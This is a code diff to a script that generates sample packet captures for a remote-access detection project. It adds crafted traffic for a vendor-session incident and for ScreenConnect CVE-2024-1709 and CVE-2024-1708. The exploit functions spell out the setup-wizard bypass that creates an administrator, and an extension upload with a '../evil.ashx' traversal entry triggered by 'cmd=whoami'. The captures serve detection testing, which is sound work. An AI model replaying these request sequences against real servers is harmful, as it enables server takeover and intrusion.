@@ -1,6 +1,7 @@
 """Write the project's own sample captures into pcaps/ (pcaps/README.md says what each one shows).
 
 Run from the repository root:  .venv/bin/python pcaps/generate.py   (needs root for tcpdump on lo)
+Name files to write only those:  .venv/bin/python pcaps/generate.py incident-2023.pcap ...
 
 Plain-TCP and UDP captures are crafted with scapy and are byte-for-byte reproducible. TLS captures
 are real handshakes between Python ssl endpoints on 127.0.0.1, recorded with tcpdump and then
@@ -10,8 +11,10 @@ addresses do not.
 
 from __future__ import annotations
 
+import argparse
 import base64
 import datetime as dt
+import io
 import ipaddress
 import random
 import socket
@@ -21,6 +24,7 @@ import tempfile
 import threading
 import time
 import urllib.parse
+import zipfile
 from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass, field
 from email.utils import formatdate
@@ -688,6 +692,7 @@ class Env:
     frontdesk: Credential  # AnyDesk client certificate of 10.20.0.31
     lab_peer: Credential  # AnyDesk client certificate of 10.20.0.77
     outside_peer: Credential  # AnyDesk client certificate of 198.51.100.99
+    pharmacy: Credential  # AnyDesk client certificate of 10.20.0.61 (incident-2023.pcap)
     relay: Credential
     dh_file: Path
 
@@ -758,10 +763,10 @@ def build_sc_relay_legacy() -> list[Frame]:
     return frames + flow.frames
 
 
-def sc_installer_query(blob: bytes) -> str:
+def sc_installer_query(blob: bytes, relay_host: str = "support.vendor.example") -> str:
     k = urllib.parse.quote(base64.b64encode(blob).decode("ascii"), safe="")
     custom = "&c=Acme" + "&c=" * 7
-    return f"e=Access&y=Guest&h=support.vendor.example&p=8041&k={k}{custom}"
+    return f"e=Access&y=Guest&h={relay_host}&p=8041&k={k}{custom}"
 
 
 def build_sc_web_onprem() -> list[Frame]:
@@ -867,12 +872,12 @@ def anydesk_exchanges(rng: random.Random, keepalives: int) -> tuple[tuple[bytes,
     return (first, *rest)
 
 
-def anydesk_relay_run(env: Env, rng: random.Random) -> TlsRun:
+def anydesk_relay_run(env: Env, rng: random.Random, client: Credential | None = None) -> TlsRun:
+    """An AnyDesk client (FRONTDESK-PC unless another certificate is given) at an AnyNet relay."""
+    cred = client or env.frontdesk
     return TlsRun(
-        anydesk_server_ctx(
-            env.relay, env.frontdesk.cert_pem, "ECDHE-ECDSA-AES256-GCM-SHA384", None
-        ),
-        anydesk_client_ctx(env.frontdesk, "anydesk/7.1.0/windows"),
+        anydesk_server_ctx(env.relay, cred.cert_pem, "ECDHE-ECDSA-AES256-GCM-SHA384", None),
+        anydesk_client_ctx(cred, "anydesk/7.1.0/windows"),
         None,
         anydesk_exchanges(rng, 3),
     )
@@ -1163,6 +1168,294 @@ def build_neg_0x87() -> list[Frame]:
 
 
 # --------------------------------------------------------------------------------------------
+# The 2023 incident and ScreenConnect exploitation (protocols.md 1.5-1.7 and 1.9)
+
+SC_SERVER_2397 = "ScreenConnect/23.9.7.8804"  # the last build before the 23.9.8 fix (1.6)
+VENDOR = Endpoint("198.51.100.7", 8040)  # support.vendor.example, not updated since 2019 (1.9)
+CLINIC = Endpoint("10.20.5.20", 8040)  # our own on-prem server
+CLINIC_HOST = "control.clinic.example"
+OTHER = Endpoint("198.51.100.80", 8040)  # someone else's server
+OTHER_HOST = "help.other-msp.example"
+ATTACKER = "203.0.113.66"
+INSIDE_ATTACKER = "10.20.0.71"
+WIZARD_PATH = "/SetupWizard.aspx/literallyanything"
+EXTENSION_GUID = "7f3c2a91-5b4e-4d0a-9c8e-1e2f3a4b5c6d"  # the attacker's extension folder
+NORMAL_EXTENSION = "2d558935-686a-4f8b-a8e9-4c3c5b1a6b7c"  # an installed, ordinary extension
+EVIL_HANDLER = "evil.ashx"
+NEW_ADMIN = ("svc_backup", "svc_backup@mail.example", "Spring2024!backup")
+HTML = "text/html; charset=utf-8"
+
+
+def sc_response(
+    flow: TcpFlow,
+    status: str,
+    server: str,
+    content_type: str,
+    body: bytes,
+    extra: Sequence[tuple[str, str]] = (),
+) -> bytes:
+    """A response head as the ScreenConnect web server writes it, Server header included (1.5)."""
+    headers = [
+        ("Cache-Control", "private"),
+        ("Content-Type", content_type),
+        *extra,
+        ("Server", server),
+        ("Date", http_date(flow.t_ns)),
+        ("Content-Length", str(len(body))),
+    ]
+    return http_message(f"HTTP/1.1 {status}", headers, body)
+
+
+def browser_headers(host: str, connection: str = "keep-alive") -> list[tuple[str, str]]:
+    return [
+        ("Host", f"{host}:8040"),
+        ("User-Agent", BROWSER_UA),
+        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
+        ("Connection", connection),
+    ]
+
+
+def post(path: str, headers: Sequence[tuple[str, str]], content_type: str, body: bytes) -> bytes:
+    return http_message(
+        f"POST {path} HTTP/1.1",
+        [*headers, ("Content-Type", content_type), ("Content-Length", str(len(body)))],
+        body,
+    )
+
+
+def build_incident_2023(env: Env) -> list[Frame]:
+    """1.9: a vendor's 2019 ScreenConnect reaches a pharmacy server; AnyDesk follows for good."""
+    rng = random.Random(801)
+    client, host = "10.20.0.61", "support.vendor.example"
+    frames = dns_lookup(T0, client, host, [VENDOR.ip], sport=53061, txid=0x1C01)
+    # The guest installer, from the vendor's server: h/p/k name the relay (1.4).
+    web = TcpFlow(Endpoint(client, 50611), VENDOR, T0 + 40 * MILLI, WAN_RTT, 0x61110000, 0x61220000)
+    web.open()
+    path = f"/Bin/ScreenConnect.ClientSetup.exe?{sc_installer_query(relay_public_key_blob(7))}"
+    web.send(True, http_message(f"GET {path} HTTP/1.1", browser_headers(host, "close")))
+    body = DOS_STUB + rng.randbytes(1600)
+    disposition = ("Content-Disposition", "attachment; filename=ScreenConnect.ClientSetup.exe")
+    web.send(
+        False,
+        sc_response(web, "200 OK", SC_SERVER, "application/octet-stream", body, [disposition]),
+    )
+    web.close(from_client=False)
+    # The vendor's relay session: M1 handshake, then three minutes of traffic (1.3).
+    relay = TcpFlow(
+        Endpoint(client, 50612),
+        Endpoint(VENDOR.ip, 8041),
+        web.t_ns + 3 * SECOND,
+        WAN_RTT,
+        0x61330000,
+        0x61440000,
+    )
+    relay_session(relay, sc_relay_hello(0x15, rng, 216), rng, 12, 15 * SECOND)
+    # Ten minutes later AnyDesk, pushed through that session: no download, no DNS on the wire.
+    run = anydesk_relay_run(env, random.Random(802), env.pharmacy)
+    captured, port = record_tls(run, env.workdir)
+    anydesk = readdress(
+        captured,
+        port,
+        Endpoint(client, 50613),
+        Endpoint("203.0.113.45", 443),
+        start_ns=relay.t_ns + 10 * 60 * SECOND,
+        rtt_ns=WAN_RTT,
+        idle_ns=15 * SECOND,
+    )
+    return frames + web.frames + relay.frames + anydesk
+
+
+def viewstate(rng: random.Random) -> str:
+    return base64.b64encode(rng.randbytes(96)).decode("ascii")
+
+
+def wizard_page(state: str, step: str) -> bytes:
+    """The setup wizard form: hidden ASP.NET state, then the step's fields (1.7)."""
+    hidden = "".join(
+        f'<input type="hidden" name="{name}" id="{name}" value="{value}" />\r\n'
+        for name, value in (
+            ("__EVENTTARGET", ""),
+            ("__EVENTARGUMENT", ""),
+            ("__VIEWSTATE", state),
+            ("__VIEWSTATEGENERATOR", "5F3C1A4D"),
+        )
+    )
+    fields = {
+        "start": '<input type="submit" name="ctl00$Main$wizard$StartNavigationTemplateContainer'
+        'ID$StartNextButton" value="Next" />',
+        "admin": "".join(
+            f'<input name="ctl00$Main$wizard${box}" type="{kind}" id="ctl00_Main_wizard_{box}" />'
+            for box, kind in (
+                ("userNameBox", "text"),
+                ("emailBox", "text"),
+                ("passwordBox", "password"),
+                ("verifyPasswordBox", "password"),
+            )
+        ),
+        "done": "<p>Setup is complete.</p>",
+    }[step]
+    return (
+        "<!DOCTYPE html>\r\n<html><head><title>ScreenConnect Setup Wizard</title></head><body>"
+        f'\r\n<form method="post" action="./literallyanything" id="aspnetForm">\r\n{hidden}'
+        f'<div id="ctl00_Main_wizard">{fields}</div>\r\n</form></body></html>\r\n'
+    ).encode("ascii")
+
+
+def wizard_attack(flow: TcpFlow, host: str, rng: random.Random) -> None:
+    """CVE-2024-1709 on one keep-alive connection: the page, Next, then the new administrator."""
+    headers = browser_headers(host)
+    form_type = "application/x-www-form-urlencoded"
+    flow.open()
+    flow.send(True, http_message(f"GET {WIZARD_PATH} HTTP/1.1", headers))
+    state = viewstate(rng)
+    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, wizard_page(state, "start")))
+    hidden = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", state),
+              ("__VIEWSTATEGENERATOR", "5F3C1A4D")]  # fmt: skip
+    start = [
+        *hidden,
+        ("ctl00$Main$wizard$StartNavigationTemplateContainerID$StartNextButton", "Next"),
+    ]
+    flow.send(True, post(WIZARD_PATH, headers, form_type, urllib.parse.urlencode(start).encode()))
+    state = viewstate(rng)
+    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, wizard_page(state, "admin")))
+    user, email, password = NEW_ADMIN
+    admin = [
+        ("__LASTFOCUS", ""),
+        *hidden[:2],
+        ("__VIEWSTATE", state),
+        hidden[3],
+        ("ctl00$Main$wizard$userNameBox", user),
+        ("ctl00$Main$wizard$emailBox", email),
+        ("ctl00$Main$wizard$passwordBox", password),
+        ("ctl00$Main$wizard$verifyPasswordBox", password),
+        ("ctl00$Main$wizard$StepNavigationTemplateContainerID$StepNextButton", "Next"),
+    ]
+    flow.send(True, post(WIZARD_PATH, headers, form_type, urllib.parse.urlencode(admin).encode()))
+    done = wizard_page(viewstate(rng), "done")
+    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, done))
+    flow.close(from_client=True)
+
+
+def console_visit(flow: TcpFlow, host: str, key_seed: int) -> None:
+    """Ordinary use of a server on one connection: login page, console, guest installer."""
+    headers = browser_headers(host)
+    flow.open()
+    flow.send(True, http_message("GET /Login HTTP/1.1", headers))
+    page = b"<!DOCTYPE html>\r\n<html><head><title>Login</title></head><body></body></html>\r\n"
+    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, HTML, page))
+    flow.send(True, http_message("GET /Host HTTP/1.1", headers))
+    location = ("Location", "/Login?Reason=0&ReturnUrl=%2fHost")
+    flow.send(False, sc_response(flow, "302 Found", SC_SERVER_2397, HTML, b"", [location]))
+    query = sc_installer_query(relay_public_key_blob(key_seed), host)
+    flow.send(
+        True, http_message(f"GET /Bin/ScreenConnect.ClientSetup.exe?{query} HTTP/1.1", headers)
+    )
+    body = DOS_STUB + bytes(400)
+    disposition = ("Content-Disposition", "attachment; filename=ScreenConnect.ClientSetup.exe")
+    octets = "application/octet-stream"
+    flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, octets, body, [disposition]))
+    flow.close(from_client=True)
+
+
+def build_sc_exploit_1709() -> list[Frame]:
+    rng = random.Random(901)
+    attack = TcpFlow(Endpoint(ATTACKER, 41766), CLINIC, T0, WAN_RTT, 0x17090001, 0x17090002)
+    wizard_attack(attack, CLINIC_HOST, rng)
+    ordinary = TcpFlow(
+        Endpoint("10.20.0.41", 50441), CLINIC, T0 + 20 * SECOND, LAN_RTT, 0x17090003, 0x17090004
+    )
+    console_visit(ordinary, CLINIC_HOST, 20)
+    # One of our hosts doing the same to a server on the internet.
+    outbound = TcpFlow(
+        Endpoint(INSIDE_ATTACKER, 50711), OTHER, T0 + 40 * SECOND, WAN_RTT, 0x17090005, 0x17090006
+    )
+    wizard_attack(outbound, OTHER_HOST, rng)
+    return attack.frames + ordinary.frames + outbound.frames
+
+
+def malicious_extension(guid: str) -> bytes:
+    """1.7: a ZIP with <guid>/Manifest.xml and the traversal entry <guid>/../evil.ashx."""
+    manifest = (
+        '<?xml version="1.0" encoding="utf-8"?>\r\n<ExtensionManifest>\r\n  <Version>1</Version>'
+        "\r\n  <Name>backupagent</Name>\r\n  <Author>backupagent</Author>\r\n  <Components>\r\n"
+        f'    <WebServiceReference SourceFile="{EVIL_HANDLER}"/>\r\n  </Components>\r\n'
+        "</ExtensionManifest>\r\n"
+    )
+    handler = (
+        '<% @ WebHandler Language="C#" Class="H" %>\r\nusing System.Web;\r\n'
+        "public class H : IHttpHandler {\r\n  public bool IsReusable { get { return true; } }\r\n"
+        '  public void ProcessRequest(HttpContext c) { c.Response.Write("ok"); }\r\n}\r\n'
+    )
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
+        for entry, text in (
+            (f"{guid}/Manifest.xml", manifest),
+            (f"{guid}/../{EVIL_HANDLER}", handler),
+        ):
+            # A fixed date so the file is reproducible; ZipInfo keeps "../" as given.
+            archive.writestr(zipfile.ZipInfo(entry, date_time=(2024, 3, 1, 9, 0, 0)), text)
+    return buf.getvalue()
+
+
+def extension_attack(
+    client: str, server: Endpoint, host: str, start_ns: int, port: int, rng: random.Random
+) -> list[Frame]:
+    """CVE-2024-1708 as the new administrator: install, trigger, uninstall; one connection each."""
+    user, _, password = NEW_ADMIN
+    basic = base64.b64encode(f"{user}:{password}".encode()).decode("ascii")
+    token = base64.b64encode(rng.randbytes(24)).decode("ascii")
+    api = [
+        ("Host", f"{host}:8040"),
+        ("User-Agent", BROWSER_UA),
+        ("Accept", "*/*"),
+        ("Authorization", f"Basic {basic}"),
+        ("X-Anti-Forgery-Token", token),
+        ("Connection", "close"),
+    ]
+    service = "/Services/ExtensionService.ashx"
+    archive = base64.b64encode(malicious_extension(EXTENSION_GUID)).decode("ascii")
+    steps = [
+        (f"{service}/InstallExtension", api, "application/json", f'["{archive}"]'.encode()),
+        (f"/App_Extensions/{EVIL_HANDLER}", api[:4] + api[5:], "application/x-www-form-urlencoded",
+         b"cmd=whoami"),
+        (f"{service}/UninstallExtension", api, "application/json",
+         f'["{EXTENSION_GUID}"]'.encode()),
+    ]  # fmt: skip
+    replies = [b"", b"ok", b""]
+    frames: list[Frame] = []
+    t_ns = start_ns
+    for i, ((path, headers, content_type, body), reply) in enumerate(
+        zip(steps, replies, strict=True)
+    ):
+        isn = (port << 16) + i
+        flow = TcpFlow(Endpoint(client, port + i), server, t_ns, WAN_RTT, isn, isn ^ 0x5A5A0000)
+        flow.open()
+        flow.send(True, post(path, headers, content_type, body))
+        kind = "text/plain; charset=utf-8" if reply else "application/json; charset=utf-8"
+        flow.send(False, sc_response(flow, "200 OK", SC_SERVER_2397, kind, reply))
+        flow.close(from_client=False)
+        frames += flow.frames
+        t_ns = flow.t_ns + 2 * SECOND
+    return frames
+
+
+def build_sc_exploit_1708() -> list[Frame]:
+    rng = random.Random(902)
+    frames = extension_attack(ATTACKER, CLINIC, CLINIC_HOST, T0, 41780, rng)
+    # A technician's browser loading an installed extension: GUID folder, no alert.
+    normal = TcpFlow(
+        Endpoint("10.20.0.41", 50451), CLINIC, T0 + 15 * SECOND, LAN_RTT, 0x17080001, 0x17080002
+    )
+    normal.open()
+    path = f"/App_Extensions/{NORMAL_EXTENSION}/Web.ashx"
+    normal.send(True, http_message(f"GET {path} HTTP/1.1", browser_headers(CLINIC_HOST, "close")))
+    normal.send(False, sc_response(normal, "200 OK", SC_SERVER_2397, "application/json", b"{}"))
+    normal.close(from_client=False)
+    outbound = extension_attack(INSIDE_ATTACKER, OTHER, OTHER_HOST, T0 + 30 * SECOND, 50721, rng)
+    return frames + normal.frames + outbound
+
+
+# --------------------------------------------------------------------------------------------
 # Output
 
 
@@ -1201,12 +1494,28 @@ def make_env(workdir: Path) -> Env:
         frontdesk=anydesk_client_credential(workdir, "ad-frontdesk", utc(2023, 6, 5)),
         lab_peer=anydesk_client_credential(workdir, "ad-lab77", utc(2023, 9, 12)),
         outside_peer=anydesk_client_credential(workdir, "ad-outside", utc(2024, 2, 27)),
+        pharmacy=anydesk_client_credential(workdir, "ad-pharmacy", utc(2024, 3, 1)),
         relay=anynet_relay_credential(workdir),
         dh_file=dh_file,
     )
 
 
-def main() -> None:
+def parse_args(argv: Sequence[str] | None, names: Sequence[str]) -> list[str]:
+    parser = argparse.ArgumentParser(description="Write the sample captures into pcaps/.")
+    parser.add_argument(
+        "files",
+        nargs="*",
+        metavar="FILE",
+        help="write only these (default: all, then demo-mixed.pcap); TLS files get new keys",
+    )
+    files: list[str] = parser.parse_args(argv).files
+    unknown = sorted(set(files) - set(names))
+    if unknown:
+        parser.error(f"unknown capture {', '.join(unknown)} (known: {', '.join(names)})")
+    return files or list(names)
+
+
+def main(argv: Sequence[str] | None = None) -> None:
     with tempfile.TemporaryDirectory(prefix="rmm-pcaps-") as tmp:
         env = make_env(Path(tmp))
         builders: list[tuple[str, Callable[[], list[Frame]]]] = [
@@ -1226,12 +1535,22 @@ def main() -> None:
             ("neg-tls-8041-7070.pcap", lambda: build_neg_tls_ports(env)),
             ("neg-udp-50001.pcap", build_neg_udp),
             ("neg-0x87-not-relay.pcap", build_neg_0x87),
+            ("incident-2023.pcap", lambda: build_incident_2023(env)),
+            ("sc-exploit-cve-2024-1709.pcap", build_sc_exploit_1709),
+            ("sc-exploit-cve-2024-1708.pcap", build_sc_exploit_1708),
         ]
+        selected = set(parse_args(argv, [n for n, _ in builders]))
         built: dict[str, list[Frame]] = {}
         for filename, build in builders:
+            if filename not in selected:
+                continue
             built[filename] = build()
             count = write_pcap(OUT_DIR / filename, built[filename])
             print(f"{filename}: {count} packets")
+        parts = ("sc-web-onprem-8040.pcap", "sc-relay-m1-8041.pcap", "ad-relay-tls.pcap",
+                 "neg-lookalike-names.pcap")  # fmt: skip
+        if not all(p in built for p in parts):
+            return  # the demo must hold the same TLS sessions as the files it merges
         # Web download, relay session, AnyDesk relay and look-alikes overlapping in ~75 seconds.
         demo = (
             shifted(built["sc-web-onprem-8040.pcap"], 0)
